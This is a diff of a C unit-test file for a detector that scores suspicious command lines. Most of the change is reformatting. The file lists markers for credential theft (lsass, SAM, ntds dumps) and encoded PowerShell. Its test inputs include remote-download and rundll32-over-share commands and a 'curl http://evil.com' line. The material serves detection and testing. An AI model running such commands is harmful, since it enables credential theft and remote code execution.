@@ -1,6 +1,6 @@
+#include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
-#include <setjmp.h>
 #include <stdint.h>
 
 #include <cmocka.h>
@@ -104,10 +104,36 @@ static void test_counts_long_lines(void **state)
 }
 
 static const char *const markers[] = {
-    "echo",    "replace", "#",         " -e ",          " -ec ", " -enc ", " -encodedcommand ", "frombase64string(",
-    "^",       "\"\"",    "set",       "&&",            "&&for", "for %",  ";;",                "http",
-    "www.",    ".com",    "html",      "tcp",           "udp",   "lsass",  "samsrv",            "hklm\\sam",
-    "winlogon", "netlogon", "kerberos.dll", "dump", ".bin", "ntds",
+    "echo",
+    "replace",
+    "#",
+    " -e ",
+    " -ec ",
+    " -enc ",
+    " -encodedcommand ",
+    "frombase64string(",
+    "^",
+    "\"\"",
+    "set",
+    "&&",
+    "&&for",
+    "for %",
+    ";;",
+    "http",
+    "www.",
+    ".com",
+    "html",
+    "tcp",
+    "udp",
+    "lsass",
+    "samsrv",
+    "hklm\\sam",
+    "winlogon",
+    "netlogon",
+    "kerberos.dll",
+    "dump",
+    ".bin",
+    "ntds",
 };
 
 static double marker(const char *line, const char *text)
@@ -166,7 +192,8 @@ static void test_markers_agree_with_search(void **state)
             size_t length = strlen(m), from = (size_t)rng_next_below(&rng, 3) == 0 ? 1 : 0;
             length -= rng_next_below(&rng, 3) == 0 ? 1 : 0;
             for (size_t i = from; i < length; i++)
-                line[n++] = (char)(rng_next_below(&rng, 4) == 0 && m[i] >= 'a' && m[i] <= 'z' ? m[i] - 'a' + 'A' : m[i]);
+                line[n++] =
+                    (char)(rng_next_below(&rng, 4) == 0 && m[i] >= 'a' && m[i] <= 'z' ? m[i] - 'a' + 'A' : m[i]);
         }
         float out[MAX_COLUMNS];
         struct str s = {line, n};
@@ -229,10 +256,11 @@ static void test_base64_run_of_exactly_40(void **state)
     for (int before = 0; before < 90; before++)
         for (int length = 39; length <= 41; length++) {
             char line[256];
-            snprintf(line, sizeof line, "%*s%.*s z", before, "", length, "aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3");
-            assert_true(feature(line, "deliberate_encoding") == (length >= 40));
-            snprintf(line, sizeof line, "%.*s %.*s", before % 40, "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", length,
+            snprintf(line, sizeof line, "%*s%.*s z", before, "", length,
                      "aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3");
+            assert_true(feature(line, "deliberate_encoding") == (length >= 40));
+            snprintf(line, sizeof line, "%.*s %.*s", before % 40, "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
+                     length, "aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3");
             assert_true(feature(line, "deliberate_encoding") == (length >= 40));
         }
 }
@@ -263,7 +291,7 @@ static void test_remote_executable(void **state)
         {"curl 'HTTPS://1.2.3.4:8080/a.PS1?key=1#top' -o x", true},
         {"\\\\files\\tools\\run.bat /s", true},
         {"rundll32 \\\\10.0.0.1\\c$\\a.dll,Start", true},
-        {"curl http://evil.com", false},           /* the host's own .com */
+        {"curl http://evil.com", false},             /* the host's own .com */
         {"curl http://evil.com/?file=a.exe", false}, /* in the query only */
         {"curl http://a.org/index.html", false},
         {"C:\\tools\\run.bat", false},
